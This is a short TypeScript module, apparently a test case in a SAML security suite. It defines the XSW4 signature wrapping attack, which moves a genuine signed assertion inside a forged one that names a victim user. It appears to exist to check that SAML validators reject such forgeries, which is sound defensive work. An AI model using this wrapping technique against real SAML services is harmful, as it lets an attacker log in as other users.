import type { SamlAttack } from '../saml-attack.ts'
import { editAnswer } from '../saml-attack.ts'

export const attack: SamlAttack = {
  name: 'XSW4: the signed assertion inside of a forged one',
  reason: 'wrapping',
  forge: ({ genuine, victim }) =>
    editAnswer(genuine, ({ response, assertion, copyAbout }) => {
      const forged = copyAbout(assertion, victim)
      response.replaceChild(forged, assertion)
      forged.appendChild(assertion)
    }),
}
